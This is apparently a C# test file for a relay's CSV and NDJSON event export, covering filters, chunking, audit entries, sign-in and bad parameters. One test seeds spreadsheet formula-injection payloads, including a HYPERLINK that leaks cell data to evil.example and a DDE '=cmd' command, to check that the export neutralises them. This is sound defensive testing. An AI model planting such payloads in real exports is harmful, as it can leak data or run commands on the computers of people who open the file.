using System.Net;
using System.Text.Json;
using Microsoft.AspNetCore.Mvc.Testing;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Time.Testing;
using Userlist.Core.Storage;
using Userlist.Tests.Infrastructure;
using Userlist.Tests.Pages;

namespace Userlist.Tests.Dashboard;

/// <summary>Downloads of the Events filter as CSV and NDJSON, through the relay's endpoint, on both providers.</summary>
public sealed class CallExportTests
{
    public static TheoryData<StorageKind> Providers => [StorageKind.Sqlite, StorageKind.Postgres];

    [SkippableTheory]
    [MemberData(nameof(Providers))]
    public async Task Export_OfAFilter_ContainsExactlyTheMatchingCalls_NewestFirst(StorageKind storage)
    {
        var start = new DateTime(2026, 11, 30, 8, 0, 0, DateTimeKind.Utc);
        await using var database = await TestDatabase.CreateAsync(storage);
        await using var relay = ExportRelay.Create(database);
        using var client = await relay.SignedInClientAsync();
        var calls = Enumerable.Range(0, 60).Select(i =>
        {
            var type = (i % 3) switch { 0 => "identify", 1 => "track", _ => "group" };
            var call = Seed.Call($"u{i % 4}", Settled[i % Settled.Length], type, eventName: i % 2 == 0 ? "Seat Added" : "Plan Changed",
                groupId: type == "group" ? $"g{i % 5}" : null, receivedAt: start.AddMinutes(i), reason: $"reason {i}",
                payload: $$"""{"type":"{{type}}","userId":"u{{i % 4}}","messageId":"m{{i}}","plan":"{{(i % 5 == 0 ? "enterprise" : "starter")}}"}""");
            call.AnonymousId = i % 6 == 0 ? $"anon-{i % 12}" : null;
            call.AttemptCount = i % 7;
            return call;
        }).ToArray();
        await relay.StoreAsync(calls);
        await Eventually.HoldsAsync(async () => await BacklogAsync(relay) == 0, "the calls are indexed for free text", TimeSpan.FromSeconds(30));

        async Task AssertExportsAsync(string query, Func<Message, bool> matches)
        {
            var expected = calls.Where(matches).OrderByDescending(c => c.Id).ToList();
            Assert.NotEmpty(expected);
            var rows = Csv.Parse(await client.ExportAsync($"format=csv&{query}"));
            Assert.Equal(["id", "received_at", "type", "user_id", "anonymous_id", "group_id", "event", "status", "reason", "attempts"], rows[0]);
            Assert.Equal(
                expected.Select(c => new[]
                {
                    $"{c.Id}", c.ReceivedAt.ToString("yyyy-MM-dd'T'HH:mm:ss.fff'Z'"), c.Type!, c.UserId!, c.AnonymousId ?? "", c.GroupId ?? "", c.Event ?? "",
                    $"{c.Status}", c.StatusReason!, $"{c.AttemptCount}",
                }),
                rows.Skip(1).Select(r => r.ToArray()));

            var lines = (await client.ExportAsync($"format=ndjson&{query}")).Split('\n');
            Assert.Equal("", lines[^1]);
            Assert.Equal(expected.Select(c => c.Payload), lines[..^1]);
        }

        await AssertExportsAsync("", _ => true);
        await AssertExportsAsync("user=u1", c => c.UserId == "u1");
        await AssertExportsAsync("status=Failed&type=track", c => c.Status == MessageStatus.Failed && c.Type == "track");
        await AssertExportsAsync("type=track&event=Seat%20Added&user=u2", c => c.Type == "track" && c.Event == "Seat Added" && c.UserId == "u2");
        await AssertExportsAsync("group=g2", c => c.GroupId == "g2");
        await AssertExportsAsync("anonymous=anon-6", c => c.AnonymousId == "anon-6");
        await AssertExportsAsync("from=2026-11-30T08:10:00Z&to=2026-11-30T08:25:00Z", c => c.ReceivedAt >= start.AddMinutes(10) && c.ReceivedAt < start.AddMinutes(25));
        await AssertExportsAsync("text=enterprise", c => c.Payload.Contains("enterprise", StringComparison.Ordinal));
        await AssertExportsAsync("text=enterprise&user=u0&status=Delivered", c => c.Payload.Contains("enterprise", StringComparison.Ordinal) && c.UserId == "u0" && c.Status == MessageStatus.Delivered);
        Assert.Equal([CsvHeader], (await client.ExportAsync("format=csv&user=nobody")).Split("\r\n")[..^1]);
        Assert.Equal("", await client.ExportAsync("format=ndjson&user=nobody"));
    }

    [SkippableTheory]
    [MemberData(nameof(Providers))]
    public async Task Export_OfMoreCallsThanAChunk_HasEveryCallOnce(StorageKind storage)
    {
        await using var database = await TestDatabase.CreateAsync(storage);
        await using var relay = ExportRelay.Create(database);
        using var client = await relay.SignedInClientAsync();
        var calls = Enumerable.Range(0, MessageExport.ChunkSize * 2 + 7).Select(i => Seed.Call($"u{i % 3}", MessageStatus.Delivered)).ToArray();
        await relay.StoreAsync(calls);

        var all = Csv.Parse(await client.ExportAsync("format=csv")).Skip(1).Select(r => long.Parse(r[0])).ToList();
        var one = Csv.Parse(await client.ExportAsync("format=csv&user=u1")).Skip(1).Select(r => long.Parse(r[0])).ToList();

        Assert.Equal(calls.Select(c => c.Id).OrderDescending(), all);
        Assert.Equal(calls.Where(c => c.UserId == "u1").Select(c => c.Id).OrderDescending(), one);
    }

    [Fact]
    public async Task Csv_CellsASpreadsheetWouldRun_AreNeutralised_AndEveryCellParsesBack()
    {
        await using var database = await TestDatabase.CreateAsync(StorageKind.Sqlite);
        await using var relay = ExportRelay.Create(database);
        using var client = await relay.SignedInClientAsync();
        string[] risky = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\r=1+1", "=cmd|' /C calc'!A0"];
        string[] plain = ["ada, \"the countess\"", "two\r\nlines", "line\nfeed", "it's fine", "a;b", "1-2", "plain"];
        var calls = new List<Message>();
        foreach (var value in risky.Concat(plain))
        {
            var call = Seed.Call(value, MessageStatus.Rejected, eventName: value, groupId: value, reason: $"Userlist answered 422: {value}");
            call.AnonymousId = value;
            call.StatusReason = value;
            calls.Add(call);
        }

        await relay.StoreAsync([.. calls]);

        var rows = Csv.Parse(await client.ExportAsync("format=csv")).Skip(1).OrderBy(r => long.Parse(r[0])).ToList();

        Assert.Equal(calls.Count, rows.Count);
        foreach (var (call, row) in calls.OrderBy(c => c.Id).Zip(rows))
        {
            var expected = risky.Contains(call.UserId) ? "'" + call.UserId : call.UserId!;
            // user id, anonymous id, group id, event and reason: every text cell the caller chose.
            Assert.Equal([expected, expected, expected, expected, expected], new[] { row[3], row[4], row[5], row[6], row[8] });
            Assert.Equal($"{call.Id}", row[0]);
        }

        Assert.DoesNotContain(rows.SelectMany(r => r), cell => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r');
    }

    [Fact]
    public async Task Ndjson_ACallStoredAcrossLines_IsOneLineOfTheSameJson()
    {
        await using var database = await TestDatabase.CreateAsync(StorageKind.Sqlite);
        await using var relay = ExportRelay.Create(database);
        using var client = await relay.SignedInClientAsync();
        await relay.StoreAsync(
            Seed.Call("u1", MessageStatus.Invalid, payload: "{\n  \"type\": \"track\",\n  \"userId\": \"u1\",\n  \"note\": \"a\\nb\"\n}"),
            Seed.Call("u2", MessageStatus.Invalid, payload: "not json\nat all"));

        var lines = (await client.ExportAsync("format=ndjson")).Split('\n')[..^1];

        Assert.Equal(2, lines.Length);
        Assert.Equal("not json\nat all", JsonSerializer.Deserialize<string>(lines[0]));
        Assert.Equal("""{"type":"track","userId":"u1","note":"a\nb"}""", lines[1]);
    }

    [Fact]
    public async Task Export_IsADownloadNamedByTheTime_AndAudited_WithOperatorFormatFilterAndCount()
    {
        var clock = new FakeTimeProvider(new DateTimeOffset(2026, 12, 1, 9, 30, 12, TimeSpan.Zero));
        await using var database = await TestDatabase.CreateAsync(StorageKind.Sqlite);
        await using var relay = ExportRelay.Create(database, clock);
        using var client = await relay.SignedInClientAsync();
        await relay.StoreAsync(Seed.Call("u1", MessageStatus.Failed), Seed.Call("u1", MessageStatus.Delivered), Seed.Call("u2", MessageStatus.Failed));

        using var csv = await client.GetAsync("/events/export?format=csv&status=Failed&user=u1");
        using var ndjson = await client.GetAsync("/events/export?format=ndjson");

        Assert.Equal("attachment", csv.Content.Headers.ContentDisposition!.DispositionType);
        Assert.Equal("userlist-relay-calls-2026-12-01T0930Z.csv", csv.Content.Headers.ContentDisposition.FileName);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType!.MediaType);
        Assert.Equal("userlist-relay-calls-2026-12-01T0930Z.ndjson", ndjson.Content.Headers.ContentDisposition!.FileName);
        Assert.Equal("application/x-ndjson", ndjson.Content.Headers.ContentType!.MediaType);
        var audit = await relay.Services.GetRequiredService<AuditLog>().NewestAsync(2, CancellationToken.None);
        Assert.Equal(
            [
                (ExportRelay.Email, "Export", "Exported 3 calls as NDJSON: all calls"),
                (ExportRelay.Email, "Export", "Exported 1 call as CSV: status = Failed, user id = \u2068u1\u2069"),
            ],
            audit.Select(e => (e.Operator, e.Action, e.Detail)));
    }

    [Fact]
    public async Task Export_WithoutSignIn_IsSentToSignIn_WithNoCallsAndNoAudit()
    {
        await using var database = await TestDatabase.CreateAsync(StorageKind.Sqlite);
        await using var relay = ExportRelay.Create(database);
        using var client = relay.CreateClient(new WebApplicationFactoryClientOptions { AllowAutoRedirect = false });
        await relay.StoreAsync(Seed.Call("secret-user", MessageStatus.Delivered));

        foreach (var format in new[] { "csv", "ndjson" })
        {
            using var response = await client.GetAsync($"/events/export?format={format}");

            Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
            Assert.StartsWith("/account/login", response.Headers.Location!.AbsolutePath, StringComparison.Ordinal);
            Assert.Null(response.Content.Headers.ContentDisposition);
            Assert.DoesNotContain("secret-user", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        }

        Assert.Empty(await relay.Services.GetRequiredService<AuditLog>().NewestAsync(10, CancellationToken.None));
    }

    [Theory]
    [InlineData("format=xlsx", "format")]
    [InlineData("", "format")]
    [InlineData("format=csv&status=Lost", "status")]
    [InlineData("format=csv&from=yesterday", "from")]
    public async Task Export_WithABadParameter_AnswersBadRequestNamingIt(string query, string named)
    {
        await using var database = await TestDatabase.CreateAsync(StorageKind.Sqlite);
        await using var relay = ExportRelay.Create(database);
        using var client = await relay.SignedInClientAsync();

        using var response = await client.GetAsync($"/events/export?{query}");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.StartsWith($"\"{named}:", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    /// <summary>Statuses nothing in the relay changes by itself (no Push API key is set, so nothing is sent).</summary>
    private static readonly MessageStatus[] Settled =
        [MessageStatus.Delivered, MessageStatus.Rejected, MessageStatus.Skipped, MessageStatus.Failed, MessageStatus.Invalid];

    private const string CsvHeader = "id,received_at,type,user_id,anonymous_id,group_id,event,status,reason,attempts";

    private static async Task<long> BacklogAsync(RelayFactory relay)
    {
        await using var db = await relay.Services.GetRequiredService<Microsoft.EntityFrameworkCore.IDbContextFactory<RelayDbContext>>().CreateDbContextAsync();
        return await relay.Services.GetRequiredService<ISearchIndex>().BacklogAsync(db, CancellationToken.None);
    }
}
